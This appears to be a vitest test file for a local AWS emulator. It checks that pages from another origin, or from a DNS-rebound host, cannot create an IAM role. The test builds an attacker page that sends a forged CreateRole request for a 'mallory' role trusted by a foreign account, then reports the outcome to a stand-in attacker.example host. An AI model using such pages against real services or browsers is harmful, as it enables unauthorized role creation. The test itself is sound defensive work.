// @module-tag deep
// @module-tag needs/chromium

import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { describe, expect, onTestFinished, test } from "vitest";
import { accountPrincipal } from "../../src/engine/principal.ts";
import { startServer } from "../../src/server.ts";
import { policy } from "../policy.ts";
import { FACTORY, wholeAws } from "../wire/whole-aws.ts";
import { presigned } from "./a-browser.ts";

/** Its name resolves to 127.0.0.1 in the browser, as an attacker's DNS would answer on the second look-up. */
const REBOUND = "rebound.example";

const trust = { Effect: "Allow", Action: "sts:AssumeRole", Principal: { AWS: "666666666666" } };
const fields = {
  Action: "CreateRole",
  Version: "2010-05-08",
  RoleName: "mallory",
  AssumeRolePolicyDocument: policy(trust),
};

/** A page whose script sends a form that creates a role, and reports the first answer that it gets. */
const page = (aws: string, mode: "cors" | "no-cors", reports: string): string => `<!doctype html><script type="module">
const url = ${JSON.stringify(`${aws}/?${presigned(FACTORY, "iam")}`)};
const form = () => new URLSearchParams(${JSON.stringify(fields)});
const ask = () => fetch(url, { method: "POST", mode: "${mode}", body: form() }).catch(() => undefined);
let answer = await ask();
for (let tries = 0; !answer && tries < 20; tries++) {
  await new Promise((resolve) => setTimeout(resolve, 200));
  answer = await ask();
}
const report = answer ? answer.type + " " + answer.status : "no answer";
await fetch(${JSON.stringify(reports)}, { method: "POST", mode: "no-cors", body: report });
</script>`;

/** Serves a page on a port of 127.0.0.1. */
async function serve(html: () => string) {
  const asked = Promise.withResolvers<void>();
  const server = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html", connection: "close" }).end(html(), () => asked.resolve());
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  onTestFinished(() => void server.close());
  return {
    port: (server.address() as AddressInfo).port,
    /** Resolves when the page was sent once and the server has stopped. */
    async gone() {
      await asked.promise;
      const closed = once(server, "close");
      server.close();
      server.closeAllConnections();
      await closed;
    },
  };
}

/** Where pages report to. */
async function reports() {
  const report = Promise.withResolvers<string>();
  const server = createServer((request, response) => {
    void text(request).then(report.resolve);
    response.end();
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  onTestFinished(() => void server.close());
  const { port } = server.address() as AddressInfo;
  return { url: `http://attacker.example:${port}/`, report: report.promise };
}

/** Opens a URL in a new browser, which ends with the test. */
function open(address: string): void {
  const profile = mkdtempSync(join(tmpdir(), "browser-"));
  const browser = spawn(
    "chromium",
    [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
      "--no-first-run",
      "--no-proxy-server",
      `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1, MAP attacker.example 127.0.0.1`,
      `--user-data-dir=${profile}`,
      "--remote-debugging-port=0",
      address,
    ],
    { stdio: "ignore" },
  );
  onTestFinished(async () => {
    const gone = once(browser, "exit");
    browser.kill("SIGKILL");
    await gone;
    rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
  });
}

async function anAws(port = 0) {
  const aws = wholeAws();
  const server = await startServer(aws, { port });
  onTestFinished(() => server.close());
  const caller = { principal: accountPrincipal(FACTORY), region: "us-east-1" };
  const roles = async () => (await aws.call<{ Roles: unknown[] }>("iam", "ListRoles", {}, caller)).Roles;
  return { url: server.url, roles };
}

describe("a page in Chromium", () => {
  // The browser hides the answer from the page; with CORS even that there was one.
  test.each([
    ["no-cors", "opaque 0"],
    ["cors", "no answer"],
  ] as const)("of another origin creates no role by a request with mode %s", async (mode, outcome) => {
    const { url, roles } = await anAws();
    const { url: to, report } = await reports();
    const { port } = await serve(() => page(url, mode, to));

    open(`http://attacker.example:${port}/`);

    expect(await report).toBe(outcome);
    expect(await roles()).toEqual([]);
  });

  test("whose host name and port lead to the embedded AWS later creates no role", async () => {
    const { url: to, report } = await reports();
    const { port, gone } = await serve(() => page("", "cors", to));

    open(`http://${REBOUND}:${port}/`);
    await gone();
    const { roles } = await anAws(port);

    // To the browser it is the page's own origin, so that the page may read the answer.
    expect(await report).toBe("basic 403");
    expect(await roles()).toEqual([]);
  });
});
